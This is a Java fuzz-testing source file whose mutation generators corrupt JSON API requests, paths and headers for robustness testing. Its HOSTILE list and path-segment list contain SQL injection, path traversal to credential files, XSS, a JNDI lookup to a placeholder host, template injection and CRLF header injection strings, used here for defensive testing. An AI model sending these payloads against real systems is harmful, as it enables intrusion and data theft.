package io.workflowversions.reliability;

import com.fasterxml.jackson.core.JsonProcessingException;
import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import com.fasterxml.jackson.databind.node.ArrayNode;
import com.fasterxml.jackson.databind.node.ObjectNode;
import com.fasterxml.jackson.databind.node.TextNode;
import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.Base64;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.UUID;
import net.jqwik.api.Arbitraries;
import net.jqwik.api.Arbitrary;
import net.jqwik.api.Combinators;
import net.jqwik.api.Tuple;

/**
 * The write fuzzer's mutations of a valid request, and the jqwik generators that draw them. A mutation holds only
 * its random choices ("pick" numbers choose a field, node, byte or path segment of whatever request it is applied
 * to), so one drawn mutation applies to any seed and a run is reproducible from its seed.
 */
final class Mutations {

    private static final ObjectMapper JSON = new ObjectMapper();

    /** One change to a request. */
    interface Mutation {
        FuzzRequest apply(FuzzRequest request);
    }

    private Mutations() {
    }

    // ---- the generators ---------------------------------------------------------------------------------------

    /** One to three mutations of a request. */
    static Arbitrary<Mutation> mutations() {
        return Arbitraries.frequencyOf(
                Tuple.of(7, one()),
                Tuple.of(3, one().list().ofMinSize(2).ofMaxSize(3).map(Several::new)));
    }

    static Arbitrary<Mutation> one() {
        Arbitrary<Integer> pick = Arbitraries.integers().between(0, Integer.MAX_VALUE);
        return Arbitraries.frequencyOf(
                Tuple.of(3, pick.map(DropField::new)),
                Tuple.of(2, pick.map(DuplicateField::new)),
                Tuple.of(2, Combinators.combine(pick, names()).as(RenameField::new)),
                Tuple.of(9, Combinators.combine(pick, values()).as(ReplaceValue::new)),
                Tuple.of(2, Combinators.combine(pick, names(), values()).as(AddField::new)),
                Tuple.of(1, values().map(ReplaceBody::new)),
                Tuple.of(2, Arbitraries.integers().between(0, 999).map(Truncate::new)),
                Tuple.of(2, pick.list().ofMinSize(1).ofMaxSize(8).map(FlipBits::new)),
                Tuple.of(1, Combinators.combine(pick, rawBytes()).as(InsertBytes::new)),
                Tuple.of(3, Combinators.combine(pick, segments()).as(WrongId::new)),
                Tuple.of(2, contentTypes().map(ContentType::new)),
                Tuple.of(1, accepts().map(Accept::new)),
                Tuple.of(1, Combinators.combine(pick, headerValues()).as(HeaderValue::new)));
    }

    /** Raw JSON values of every type: scalars, extreme numbers, hostile strings, deep nesting. */
    static Arbitrary<String> values() {
        return Arbitraries.frequencyOf(
                Tuple.of(3, Arbitraries.of("null", "true", "false", "0", "\"\"", "[]", "{}", "[null]", "{\"\":null}",
                        "[1,\"a\",true,null,{}]", "{\"a\":[{\"b\":{}}]}")),
                Tuple.of(3, numbers()),
                Tuple.of(5, strings().map(Mutations::quote)),
                Tuple.of(1, Arbitraries.of("\"\\ud800\"", "\"\\udfff\\ud800\"", "\"\\u0000\"", "\"a\\u0000b\"",
                        "\"\\uffff\"", "\"\\\\\"", "\"\\/\"")),
                Tuple.of(1, nesting()));
    }

    static Arbitrary<String> numbers() {
        return Arbitraries.oneOf(
                Arbitraries.of("-1", "-0", "0.0", "1.5", "2147483648", "-2147483649", "9223372036854775807",
                        "9223372036854775808", "-9223372036854775809", "9007199254740993", "1e308", "-1e308",
                        "1e999999", "1E-400", "0.000000000000000000001", "123456789012345678901234567890.5"),
                Arbitraries.longs().map(String::valueOf),
                Arbitraries.doubles().map(String::valueOf),
                Arbitraries.of(20, 400, 5_000).map("9"::repeat));
    }

    static Arbitrary<String> strings() {
        return Arbitraries.oneOf(
                Arbitraries.strings().all().ofMaxLength(40),
                Arbitraries.strings().withCharRange('\u0000', '\u001f').ofMinLength(1).ofMaxLength(8),
                Arbitraries.strings().withChars("'\"\\/<>&;%$`{}[]*?#").ofMaxLength(24),
                Arbitraries.of(HOSTILE),
                Arbitraries.of(64, 65, 128, 129, 256, 257, 1_025, 4_097, 65_537, 300_000).map("x"::repeat),
                Arbitraries.of("", " ", "\t", "\u00a0", "\u200b", "\ufeff", "\u202e", "e\u0301", "\ud835\udd4f\ud83d\ude00",
                        "\u4e2d\u6587", "\u0000"));
    }

    private static final String[] HOSTILE = {
        "'; drop table workflow; --", "' OR '1'='1", "1; select pg_sleep(0)", "../../etc/passwd", "..\\..\\boot.ini",
        "<script>alert(1)</script>", "${jndi:ldap://example.invalid/a}", "%s%s%s%n", "{{7*7}}", "#{7*7}",
        "\r\nX-Injected: 1", "$where", "__proto__", "null", "undefined", "NaN", "-1", "0x7fffffff", "true",
        "00000000-0000-0000-0000-000000000000", "2025-13-45T25:61:61Z", "*/15 * * * *", "@daily", "PENDING_APPROVAL",
    };

    static Arbitrary<String> nesting() {
        Arbitrary<Integer> depth = Arbitraries.of(64, 1_000, 1_001, 5_000, 100_000);
        return Arbitraries.oneOf(
                depth.map(n -> "[".repeat(n) + "]".repeat(n)),
                depth.map(n -> "{\"a\":".repeat(n) + "1" + "}".repeat(n)));
    }

    static Arbitrary<String> names() {
        return Arbitraries.oneOf(
                Arbitraries.strings().all().ofMaxLength(24),
                Arbitraries.of("", "id", "ID", "tenant", "dialect", "version", "status", "name ", "Name", "__proto__",
                        "constructor", "$where", "graph_id", "workflow_id", "project_id", "company_id", "x".repeat(300)));
    }

    static Arbitrary<String> segments() {
        return Arbitraries.oneOf(
                Arbitraries.of("0", "-1", "1", "2", "1.5", "abc", "null", "..", "%2e%2e", "%00", "%20", "%2F", "%25",
                        "%C3%28", "%FF", "%F0%9F%98%80", "%27%20OR%201=1--", "%3Cscript%3E", "%0D%0A", "",
                        "00000000-0000-0000-0000-000000000000", "ffffffffffffffffffffffffffffffff",
                        "9223372036854775808", "99999999999999999999999999", "1e3", "0x10", "x".repeat(2_000)),
                Arbitraries.longs().map(String::valueOf),
                Arbitraries.randomValue(random -> new UUID(random.nextLong(), random.nextLong()).toString()),
                Arbitraries.strings().alpha().numeric().withChars("-_.~").ofMinLength(1).ofMaxLength(300));
    }

    static Arbitrary<byte[]> rawBytes() {
        return Arbitraries.oneOf(
                Arbitraries.bytes().array(byte[].class).ofMinSize(1).ofMaxSize(8),
                Arbitraries.of(new byte[] {(byte) 0xC3, 0x28}, new byte[] {(byte) 0xFF}, new byte[] {0},
                        new byte[] {(byte) 0xED, (byte) 0xA0, (byte) 0x80},
                        new byte[] {(byte) 0xF8, (byte) 0x88, (byte) 0x80, (byte) 0x80, (byte) 0x80},
                        new byte[] {(byte) 0xEF, (byte) 0xBB, (byte) 0xBF}));
    }

    static Arbitrary<String> contentTypes() {
        return Arbitraries.of("text/plain", "application/xml", "application/x-www-form-urlencoded",
                "multipart/form-data; boundary=x", "application/octet-stream", "application/json; charset=UTF-16",
                "application/json; charset=nope", "application/json; charset=ISO-8859-1", "APPLICATION/JSON",
                "application/merge-patch+json", "application/jsonx", "*/*", "json", "garbage",
                "application/json; boundary=\"", "text/html; charset=utf-8");
    }

    static Arbitrary<String> accepts() {
        return Arbitraries.of("application/xml", "text/html", "text/plain", "*/*", "garbage", "application/json;q=0",
                "image/png, */*;q=0", "application/*");
    }

    static Arbitrary<String> headerValues() {
        return Arbitraries.oneOf(
                Arbitraries.strings().withCharRange(' ', '~').ofMaxLength(120),
                Arbitraries.strings().withCharRange('\u00a0', '\u00ff').ofMinLength(1).ofMaxLength(16),
                Arbitraries.of("", "Basic", "Basic !!!", "Basic " + base64("no-colon"), "Basic " + base64(":"),
                        "Basic " + base64("a@b.test:wrong"), "Bearer", "x".repeat(2_000)));
    }

    /** Headers a mutation may set besides the seed's own. */
    private static final List<String> HEADERS = List.of("X-Request-Id", "X-Frankie-Username", "X-Frankie-Channel",
            "X-Frankie-Background", "Accept-Language", "X-Project-Id", "If-Match");

    // ---- the mutations ----------------------------------------------------------------------------------------

    record Several(List<Mutation> steps) implements Mutation {
        @Override
        public FuzzRequest apply(FuzzRequest request) {
            FuzzRequest changed = request;
            for (Mutation step : steps) {
                changed = step.apply(changed);
            }
            return changed;
        }
    }

    record DropField(int pick) implements Mutation {
        @Override
        public FuzzRequest apply(FuzzRequest request) {
            return onTree(request, root -> {
                List<Field> fields = fields(root);
                if (fields.isEmpty()) {
                    return JSON.writeValueAsString(root.isContainerNode() ? JSON.createObjectNode() : root);
                }
                Field field = fields.get(pick % fields.size());
                field.parent().remove(field.name());
                return JSON.writeValueAsString(root);
            });
        }
    }

    record DuplicateField(int pick) implements Mutation {
        @Override
        public FuzzRequest apply(FuzzRequest request) {
            return onTree(request, root -> {
                List<Field> fields = fields(root);
                if (fields.isEmpty()) {
                    return "{\"a\":1,\"a\":2}";
                }
                Field field = fields.get(pick % fields.size());
                String object = JSON.writeValueAsString(field.parent());
                String duplicated = "{" + quote(field.name()) + ":" + JSON.writeValueAsString(field.parent().get(field.name()))
                        + "," + object.substring(1);
                return substitute(root, field.parent(), duplicated);
            });
        }
    }

    record RenameField(int pick, String name) implements Mutation {
        @Override
        public FuzzRequest apply(FuzzRequest request) {
            return onTree(request, root -> {
                List<Field> fields = fields(root);
                if (fields.isEmpty()) {
                    return JSON.writeValueAsString(root);
                }
                Field field = fields.get(pick % fields.size());
                Map<String, JsonNode> renamed = new LinkedHashMap<>();
                field.parent().fields().forEachRemaining(entry ->
                        renamed.put(entry.getKey().equals(field.name()) ? name : entry.getKey(), entry.getValue()));
                field.parent().removeAll();
                field.parent().setAll(renamed);
                return JSON.writeValueAsString(root);
            });
        }
    }

    record ReplaceValue(int pick, String raw) implements Mutation {
        @Override
        public FuzzRequest apply(FuzzRequest request) {
            return onTree(request, root -> {
                List<JsonNode> nodes = new ArrayList<>();
                collectNodes(root, nodes);
                nodes.remove(0); // the root itself is ReplaceBody's
                if (nodes.isEmpty()) {
                    return raw;
                }
                return substitute(root, nodes.get(pick % nodes.size()), raw);
            });
        }
    }

    record AddField(int pick, String name, String raw) implements Mutation {
        @Override
        public FuzzRequest apply(FuzzRequest request) {
            return onTree(request, root -> {
                List<JsonNode> objects = new ArrayList<>();
                collectNodes(root, objects);
                objects.removeIf(node -> !node.isObject());
                if (objects.isEmpty()) {
                    return "{" + quote(name) + ":" + raw + "}";
                }
                ObjectNode target = (ObjectNode) objects.get(pick % objects.size());
                String marker = marker();
                target.put(name, marker);
                return JSON.writeValueAsString(root).replace(quote(marker), raw);
            });
        }
    }

    record ReplaceBody(String raw) implements Mutation {
        @Override
        public FuzzRequest apply(FuzzRequest request) {
            return request.withBody(raw.getBytes(StandardCharsets.UTF_8));
        }
    }

    record Truncate(int permille) implements Mutation {
        @Override
        public FuzzRequest apply(FuzzRequest request) {
            byte[] body = bytesOf(request);
            return request.withBody(Arrays.copyOf(body, body.length * permille / 1000));
        }
    }

    record FlipBits(List<Integer> picks) implements Mutation {
        @Override
        public FuzzRequest apply(FuzzRequest request) {
            byte[] body = bytesOf(request).clone();
            for (int pick : picks) {
                body[pick % body.length] ^= (byte) (1 << ((pick >>> 24) % 8));
            }
            return request.withBody(body);
        }
    }

    record InsertBytes(int pick, byte[] bytes) implements Mutation {
        @Override
        public FuzzRequest apply(FuzzRequest request) {
            byte[] body = bytesOf(request);
            int at = pick % (body.length + 1);
            byte[] changed = new byte[body.length + bytes.length];
            System.arraycopy(body, 0, changed, 0, at);
            System.arraycopy(bytes, 0, changed, at, bytes.length);
            System.arraycopy(body, at, changed, at + bytes.length, body.length - at);
            return request.withBody(changed);
        }
    }

    /** Replaces one id of the path (a segment that is a {parameter} in the spec's template). */
    record WrongId(int pick, String segment) implements Mutation {
        @Override
        public FuzzRequest apply(FuzzRequest request) {
            String[] template = request.template().split("/", -1);
            String[] path = request.path().split("/", -1);
            List<Integer> ids = new ArrayList<>();
            for (int i = 0; i < template.length && i < path.length; i++) {
                if (template[i].startsWith("{")) {
                    ids.add(i);
                }
            }
            if (ids.isEmpty()) {
                // No id in this operation: a made-up one is appended instead.
                return request.withPath(request.path() + "/" + segment);
            }
            path[ids.get(pick % ids.size())] = segment;
            return request.withPath(String.join("/", path));
        }
    }

    record ContentType(String type) implements Mutation {
        @Override
        public FuzzRequest apply(FuzzRequest request) {
            return request.withContentType(type);
        }
    }

    record Accept(String type) implements Mutation {
        @Override
        public FuzzRequest apply(FuzzRequest request) {
            return request.withHeader("Accept", type);
        }
    }

    record HeaderValue(int pick, String value) implements Mutation {
        @Override
        public FuzzRequest apply(FuzzRequest request) {
            List<String> names = new ArrayList<>(request.headers().keySet());
            names.addAll(HEADERS);
            return request.withHeader(names.get(pick % names.size()), value);
        }
    }

    // ---- JSON helpers -----------------------------------------------------------------------------------------

    private record Field(ObjectNode parent, String name) {
    }

    private interface TreeEdit {
        String edit(JsonNode root) throws JsonProcessingException;
    }

    /** Applies a JSON edit to the body; a body that is not JSON (any more) is edited as the empty object. */
    private static FuzzRequest onTree(FuzzRequest request, TreeEdit edit) {
        try {
            return request.withBody(edit.edit(tree(request)).getBytes(StandardCharsets.UTF_8));
        } catch (JsonProcessingException e) {
            throw new IllegalStateException(e);
        }
    }

    private static JsonNode tree(FuzzRequest request) {
        if (request.body() == null || request.body().length == 0) {
            return JSON.createObjectNode();
        }
        try {
            JsonNode root = JSON.readTree(request.body());
            return root == null || root.isMissingNode() ? JSON.createObjectNode() : root;
        } catch (IOException e) {
            return JSON.createObjectNode();
        }
    }

    private static List<Field> fields(JsonNode root) {
        List<JsonNode> nodes = new ArrayList<>();
        collectNodes(root, nodes);
        List<Field> fields = new ArrayList<>();
        for (JsonNode node : nodes) {
            if (node instanceof ObjectNode object) {
                object.fieldNames().forEachRemaining(name -> fields.add(new Field(object, name)));
            }
        }
        return fields;
    }

    private static void collectNodes(JsonNode node, List<JsonNode> into) {
        into.add(node);
        node.elements().forEachRemaining(child -> collectNodes(child, into));
    }

    /** The tree as JSON text with one node (found by identity) written as the given raw text. */
    private static String substitute(JsonNode root, JsonNode target, String raw) throws JsonProcessingException {
        if (root == target) {
            return raw;
        }
        String marker = marker();
        replaceNode(root, target, new TextNode(marker));
        return JSON.writeValueAsString(root).replace(quote(marker), raw);
    }

    private static boolean replaceNode(JsonNode parent, JsonNode target, JsonNode replacement) {
        if (parent instanceof ObjectNode object) {
            for (Map.Entry<String, JsonNode> entry : iterable(object)) {
                if (entry.getValue() == target) {
                    object.set(entry.getKey(), replacement);
                    return true;
                }
                if (replaceNode(entry.getValue(), target, replacement)) {
                    return true;
                }
            }
        } else if (parent instanceof ArrayNode array) {
            for (int i = 0; i < array.size(); i++) {
                if (array.get(i) == target) {
                    array.set(i, replacement);
                    return true;
                }
                if (replaceNode(array.get(i), target, replacement)) {
                    return true;
                }
            }
        }
        return false;
    }

    private static List<Map.Entry<String, JsonNode>> iterable(ObjectNode object) {
        List<Map.Entry<String, JsonNode>> entries = new ArrayList<>();
        object.fields().forEachRemaining(entries::add);
        return entries;
    }

    private static String marker() {
        return "fuzz-marker-" + UUID.randomUUID();
    }

    private static byte[] bytesOf(FuzzRequest request) {
        return request.body() == null || request.body().length == 0 ? "{}".getBytes(StandardCharsets.UTF_8) : request.body();
    }

    static String quote(String text) {
        try {
            return JSON.writeValueAsString(text);
        } catch (JsonProcessingException e) {
            throw new IllegalStateException(e);
        }
    }

    private static String base64(String text) {
        return Base64.getEncoder().encodeToString(text.getBytes(StandardCharsets.UTF_8));
    }
}
